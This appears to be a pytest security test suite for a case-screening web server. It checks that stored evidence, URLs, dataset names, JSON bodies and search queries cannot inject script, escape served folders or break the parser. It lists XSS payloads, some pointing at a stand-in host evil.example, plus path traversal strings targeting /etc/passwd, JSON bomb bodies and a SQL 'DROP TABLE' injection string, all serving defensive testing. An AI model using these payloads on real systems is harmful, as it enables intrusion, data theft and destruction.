"""What strangers put in: scripts in evidence and requests, ways out of folders, bodies and words that are commands."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlsplit

import httpx
import pytest

from enduse.case import Case
from enduse.lists.store import ListStore
from enduse.settings import Settings
from tests.api.wire import raw
from tests.web.serving import served

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "closed title": "</title><script>alert(1)</script>",
    "closed textarea": "</textarea><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "image": "<img src=x onerror=alert(1)>",
    "vector": "<svg/onload=alert(1)>",
    "body": "<body onload=alert(1)>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "link": "<a href=javascript:alert(1)>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "double quote": '" onmouseover="alert(1)',
    "single quote": "' onmouseover='alert(1)",
    "backtick": "` onmouseover=`alert(1)",
    "style": "<style>@import 'http://evil.example/x.css'</style>",
    "style attribute": '<p style="background:url(http://evil.example/x)">x</p>',
    "base": "<base href=http://evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "form": "<form action=http://evil.example><input name=csrf_token></form>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=javascript:alert(1)>",
    "math": "<math><mtext><script>alert(1)</script></mtext></math>",
    "template": "{{ 7*7 }}{% raw %}{{ config }}",
    "htmx": "<div hx-get=http://evil.example hx-trigger=load></div>",
    "htmx event": "<div hx-on:load=alert(1)></div>",
    "wide angle": "＜script＞alert(1)＜/script＞",
    "null": "<scr\u0001ipt>alert(1)</scr\u0001ipt>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "json": "</script>\u2028\u2029<!--",
    "details": "<details open ontoggle=alert(1)>",
    "link tag": "<link rel=stylesheet href=http://evil.example/x.css>",
}
ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "hx-get", "hx-post", "data", "poster", "srcset", "xlink:href"}
)
FOREIGN_ELEMENTS = frozenset(
    {"iframe", "frame", "object", "embed", "base", "math", "style", "template", "applet", "video", "audio"}
)


class Markup(HTMLParser):
    """What a browser would run or fetch of a page: none of it may come from evidence."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.live: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        if tag in FOREIGN_ELEMENTS or (tag == "script" and not (told.get("src") or "").startswith("/static/")):
            self.live.append(tag)
        if tag == "meta" and "http-equiv" in told:
            self.live.append("meta http-equiv")
        for name, value in told.items():
            is_elsewhere = name in ADDRESSES and not re.match(r"(?:/(?!/)|\?|#|$|[\w-]+(?:[/?#]|$))", value or "")
            if name.startswith(("on", "hx-on")) or name == "style" or is_elsewhere:
                self.live.append(f"{tag} {name}={value}")


def live(page: str) -> list[str]:
    return Markup(page).live


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """A case whose names, file names, texts and lists are attacks."""
    folder = tmp_path_factory.mktemp("hostile")
    files = folder / "files"
    files.mkdir()
    for number, (name, attack) in enumerate(SCRIPTS.items()):
        text = f"Tavrin{number} Optics supplies lenses to Kestrel{number} Plant {attack} today.\n{attack}\n"
        (files / f"{name} {attack.replace('/', '∕')[:60]}.txt").write_text(text, encoding="utf-8")
    entries = [
        {"id": f"X{n} {attack[:20]}", "schema": "Company", "names": [f"Listed{n} {attack}"], "measure": "other"}
        for n, attack in enumerate(SCRIPTS.values())
    ]
    (folder / "list.jsonl").write_text("".join(json.dumps(e) + "\n" for e in entries), encoding="utf-8")
    settings = Settings(home=folder / "home")
    store = ListStore(settings.home)
    store.load([folder / "list.jsonl"], "hostile", "2024-01-05")
    store.close()
    case_folder = Case.create(folder / "case")
    with Case.open(case_folder, settings=settings) as case:
        case.add([files], source="<script>alert('source')</script>", reliability="F")
        case.run()
    with served(case_folder) as client:
        yield client


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_in_evidence_stays_text(hostile: httpx.Client, name: str) -> None:
    number, attack = list(SCRIPTS).index(name), SCRIPTS[name]

    found = hostile.get("/find", params={"q": attack})
    exhibit = next(
        e
        for e in hostile.get("/api/exhibits", params={"limit": 500}).json()["results"]
        if e["name"].startswith(f"{name} ")
    )
    document = hostile.get(f"/document/{exhibit['id']}")
    parties = hostile.get("/search/hostile", params={"limit": 500}).json()["results"]
    party = next(one for one in parties if one["caption"].startswith(f"Listed{number} "))
    preview = hostile.get("/reconcile/preview", params={"id": party["id"]})
    flyout = hostile.get("/reconcile/flyout/entity", params={"id": party["id"]}).json()["html"]

    assert attack in party["caption"]
    for page in (found, document, preview):
        assert page.status_code == 200, page.text[:300]
        assert "script-src 'self'" in page.headers["content-security-policy"]
        assert live(page.text) == []
    assert set(re.findall(r"<[^<>]*>", flyout)) <= {"<p>", "</p>", "<b>", "</b>"}


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_in_a_request_comes_back_as_text_or_not_at_all(hostile: httpx.Client, name: str) -> None:
    attack = SCRIPTS[name].replace("/", "∕")

    for path in (f"/{attack}", f"/document/{attack}", f"/entity/{attack}", f"/docs/{attack}"):
        answer = hostile.get(quote(path))
        assert answer.status_code in {400, 404}
        assert live(answer.text) == []


JSON_ONLY = ("/api/exhibits", "/api/claims", "/api/entities", "/search/hostile", "/match?name=Listed1", "/reconcile")


@pytest.mark.parametrize("path", JSON_ONLY)
def test_records_are_never_taken_for_a_page(hostile: httpx.Client, path: str) -> None:
    answer = hostile.get(path)

    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"


WAYS_OUT = {
    "up": "../../../../etc/passwd",
    "up encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "up twice encoded": "..%252f..%252fetc%252fpasswd",
    "dots encoded": "%2e%2e/%2e%2e/etc/passwd",
    "back": "..\\..\\etc\\passwd",
    "back encoded": "..%5c..%5cetc%5cpasswd",
    "root": "//etc/passwd",
    "null": "x%00.txt",
    "long utf": "..%c0%af..%c0%afetc/passwd",
    "dots in dots": "....//....//etc/passwd",
    "case": "../case.sqlite",
    "settings": "..%2fcase.toml",
    "file": "file:///etc/passwd",
    "lock": "%2e%2e%2fwriter.lock",
}
PLACES = ("static", "documents", "api/exhibits", "api/passages", "entities", "api/claims", "entity", "network/entity")


@pytest.mark.parametrize("way", WAYS_OUT)
def test_no_path_leads_out_of_what_is_served(api: httpx.Client, way: str) -> None:
    host, port = urlsplit(str(api.base_url)).hostname, urlsplit(str(api.base_url)).port
    for place in PLACES:
        answer = raw(host or "", port or 0, f"GET /{place}/{WAYS_OUT[way]} HTTP/1.1", f"Host: {host}:{port}")
        status = int(answer.split(b" ")[1])
        assert status in {307, 400, 404, 405}, (place, answer[:200])
        assert b"root:" not in answer
        assert b"SQLite format" not in answer


@pytest.mark.parametrize("way", ["/etc/passwd", "../list.jsonl", "file:///etc/passwd", "~/lists", "list.jsonl", "."])
def test_a_dataset_is_never_a_path(api: httpx.Client, way: str) -> None:
    asked = {"queries": {"q": {"schema": "Company", "properties": {"name": "Tavrin"}}}}

    sent = {"content-type": "text/csv"}

    assert api.post("/api/screen", params={"against": way}, content="name\nx\n", headers=sent).status_code == 404
    assert api.post(f"/match/{quote(way, safe='').replace('.', '%2E')}", json=asked).status_code in {403, 404, 405}


BOMBS: dict[str, str | bytes] = {
    "deep": '{"queries":' + '{"q":' * 5_000 + "1" + "}" * 5_001,
    "deep list": "[" * 100_000,
    "half a character": '{"queries":{"q":{"schema":"Company","properties":{"name":["\\ud800"]}}}}',
    "half a character as bytes": b'{"queries":{"q":{"schema":"Company","properties":{"name":["\xed\xa0\x80"]}}}}',
    "wide": '{"queries":{"q":{"schema":"Company","properties":{"name":["\\ud800"]}}}}'.encode("utf-16"),
    "not a number": '{"queries":{"q":{"schema":"Company","properties":{"name":[NaN]}}}}',
    "endless": '{"queries":{"q":{"schema":"Company","properties":{"name":[1e999]}}}}',
    "long number": '{"queries":{"q":{"schema":"Company","properties":{"name":[' + "9" * 10_000 + "]}}}}",
    "many names": json.dumps({"queries": {"q": {"schema": "Company", "properties": {"name": ["Tavrin"] * 50_000}}}}),
    "not utf": b"\xff\xfe{",
    "nothing": "",
    "null": "null",
    "wrong kind": '{"queries":"q"}',
}


@pytest.mark.parametrize("kind", BOMBS)
def test_a_body_that_is_made_to_break_the_reader_does_not(api: httpx.Client, kind: str) -> None:
    answer = api.post("/match/default", content=BOMBS[kind], headers={"content-type": "application/json"})

    assert answer.status_code in {200, 400, 422}
    assert answer.elapsed.total_seconds() < 5
    assert api.get("/healthz").status_code == 200


@pytest.mark.parametrize(
    "query",
    ['"', "'", "*", "NEAR(", "a OR", ") OR (1=1", "'; DROP TABLE claims; --", "name:x", "^", "\x00", "-", "{}", "%"],
)
def test_words_of_a_query_are_never_a_command(api: httpx.Client, query: str) -> None:
    for path, name in (("/api/search", "q"), ("/search/default", "q"), ("/find", "q"), ("/api/claims", "q")):
        assert api.get(path, params={name: query}).status_code in {200, 422}
    assert api.get("/api/trace", params={"name": query}).status_code in {400, 404}
    assert api.get("/api/shipments", params={"consignee": query}).status_code == 200
    assert api.get("/api/claims").json()["total"] > 0


def test_an_error_of_ours_says_nothing_of_the_evidence(
    asked_case: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from enduse.case.case_view import CaseView

    def broken(view: CaseView) -> dict[str, object]:
        raise ZeroDivisionError("words of the evidence")

    monkeypatch.setattr(CaseView, "status", broken)
    with served(asked_case) as client:
        answer = client.get("/api/case")

    assert answer.status_code == 500
    assert "words of the evidence" not in answer.text
    assert "ZeroDivisionError" in caplog.text
    assert "words of the evidence" not in caplog.text


def test_the_server_sends_no_sockets_upgrades_and_no_options(api: httpx.Client) -> None:
    upgrade = {"connection": "Upgrade", "upgrade": "websocket", "sec-websocket-key": "x", "sec-websocket-version": "13"}

    assert api.get("/api/case", headers=upgrade).status_code in {200, 400}
    assert api.request("TRACE", "/api/case").status_code in {403, 405}
    assert api.request("OPTIONS", "/api/case").status_code == 405
